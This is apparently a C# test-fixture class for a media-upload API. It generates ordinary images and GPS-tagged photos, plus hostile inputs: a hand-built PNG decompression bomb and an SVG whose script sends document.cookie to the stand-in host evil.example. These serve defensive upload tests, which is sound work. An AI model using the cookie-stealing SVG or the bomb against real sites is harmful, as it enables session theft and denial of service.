using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using SixLabors.ImageSharp;
using SixLabors.ImageSharp.Formats.Jpeg;
using SixLabors.ImageSharp.Formats.Png;
using SixLabors.ImageSharp.Formats.Webp;
using SixLabors.ImageSharp.Metadata.Profiles.Exif;
using SixLabors.ImageSharp.PixelFormats;

namespace Vivapolis.Api.Tests.Features.Media;

/// <summary>Real image bytes for the tests, made with ImageSharp, and hostile ones made by hand.</summary>
public static class TestImages
{
    private static int _counter;

    /// <summary>A gradient with a mark that makes each call's bytes (and so its hash) unique.</summary>
    public static Image<Rgba32> Picture(int width, int height)
    {
        var mark = Interlocked.Increment(ref _counter) + Random.Shared.Next(1 << 20);
        var image = new Image<Rgba32>(width, height);
        image.ProcessPixelRows(rows =>
        {
            for (var y = 0; y < rows.Height; y++)
            {
                var row = rows.GetRowSpan(y);
                for (var x = 0; x < row.Length; x++)
                    row[x] = new Rgba32((byte)(x * 255 / width), (byte)(y * 255 / height), (byte)((x + y + mark) % 256), 255);
            }
        });
        image[0, 0] = new Rgba32((byte)mark, (byte)(mark >> 8), (byte)(mark >> 16), 255);
        return image;
    }

    public static byte[] Jpeg(int width = 800, int height = 533, Action<ExifProfile>? exif = null)
    {
        using var image = Picture(width, height);
        if (exif is not null)
        {
            image.Metadata.ExifProfile = new ExifProfile();
            exif(image.Metadata.ExifProfile);
        }
        return Save(image, new JpegEncoder { Quality = 90 });
    }

    public static byte[] Png(int width = 400, int height = 300) => Save(Picture(width, height), new PngEncoder());

    public static byte[] Webp(int width = 400, int height = 300) => Save(Picture(width, height), new WebpEncoder { FileFormat = WebpFileFormatType.Lossy });

    /// <summary>A photo taken in Lyon, as a phone writes it: GPS position, camera, owner, and a comment.</summary>
    public static byte[] JpegWithGps(int width = 700, int height = 466) => Jpeg(width, height, exif =>
    {
        exif.SetValue(ExifTag.GPSLatitudeRef, "N");
        exif.SetValue(ExifTag.GPSLatitude, [new Rational(45), new Rational(45), new Rational(3241, 100)]);
        exif.SetValue(ExifTag.GPSLongitudeRef, "E");
        exif.SetValue(ExifTag.GPSLongitude, [new Rational(4), new Rational(50), new Rational(1873, 100)]);
        exif.SetValue(ExifTag.Make, "CameraMarque");
        exif.SetValue(ExifTag.Model, "Modele-X");
        exif.SetValue(ExifTag.Artist, "Jeanne Secret");
        exif.SetValue(ExifTag.ImageDescription, "chez-moi-rue-des-lilas");
    });

    /// <summary>A JPEG whose pixels are stored sideways, with EXIF orientation 6 (rotate 90° clockwise to view).</summary>
    public static byte[] JpegRotated(int storedWidth, int storedHeight) =>
        Jpeg(storedWidth, storedHeight, exif => exif.SetValue(ExifTag.Orientation, (ushort)6));

    private static byte[] Save(Image image, SixLabors.ImageSharp.Formats.IImageEncoder encoder)
    {
        using (image)
        using (var output = new MemoryStream())
        {
            image.Save(output, encoder);
            return output.ToArray();
        }
    }

    /// <summary>
    /// A real PNG decompression bomb: a 1-bit grey image of 30,000 × 30,000 pixels whose rows of zeros compress to
    /// about 100 kB. Decoded, it would take 3.6 GB as RGBA.
    /// </summary>
    public static byte[] PngBomb(int side = 30_000)
    {
        using var png = new MemoryStream();
        png.Write([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]);
        var header = new byte[13];
        BinaryPrimitives.WriteInt32BigEndian(header, side);
        BinaryPrimitives.WriteInt32BigEndian(header.AsSpan(4), side);
        header[8] = 1; // bit depth
        header[9] = 0; // greyscale
        Chunk(png, "IHDR", header);
        using (var data = new MemoryStream())
        {
            using (var zlib = new ZLibStream(data, CompressionLevel.SmallestSize, leaveOpen: true))
            {
                var row = new byte[1 + (side + 7) / 8]; // filter byte 0, then zeros
                for (var y = 0; y < side; y++) zlib.Write(row);
            }
            Chunk(png, "IDAT", data.ToArray());
        }
        Chunk(png, "IEND", []);
        return png.ToArray();
    }

    public static readonly byte[] SvgWithScript = Encoding.UTF8.GetBytes(
        "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100\" height=\"100\">" +
        "<script>fetch('https://evil.example/?c='+document.cookie)</script><circle r=\"40\" cx=\"50\" cy=\"50\"/></svg>");

    public static readonly byte[] TextFile = Encoding.UTF8.GetBytes("Compte rendu de la matinale du 12 mars : ceci n'est pas une image.\n");

    /// <summary>The start of an AVIF file: its ftyp box.</summary>
    public static readonly byte[] AvifHeader = [0, 0, 0, 0x1C, (byte)'f', (byte)'t', (byte)'y', (byte)'p', (byte)'a', (byte)'v', (byte)'i', (byte)'f', 0, 0, 0, 0, (byte)'a', (byte)'v', (byte)'i', (byte)'f', (byte)'m', (byte)'i', (byte)'f', (byte)'1', 0, 0, 0, 0];

    private static void Chunk(Stream png, string type, byte[] data)
    {
        Span<byte> length = stackalloc byte[4];
        BinaryPrimitives.WriteInt32BigEndian(length, data.Length);
        png.Write(length);
        var typeBytes = Encoding.ASCII.GetBytes(type);
        png.Write(typeBytes);
        png.Write(data);
        var crc = Crc32(typeBytes, data);
        BinaryPrimitives.WriteUInt32BigEndian(length, crc);
        png.Write(length);
    }

    private static uint Crc32(byte[] type, byte[] data)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in type.Concat(data))
        {
            crc ^= b;
            for (var k = 0; k < 8; k++) crc = (crc & 1) != 0 ? 0xEDB88320u ^ (crc >> 1) : crc >> 1;
        }
        return ~crc;
    }
}
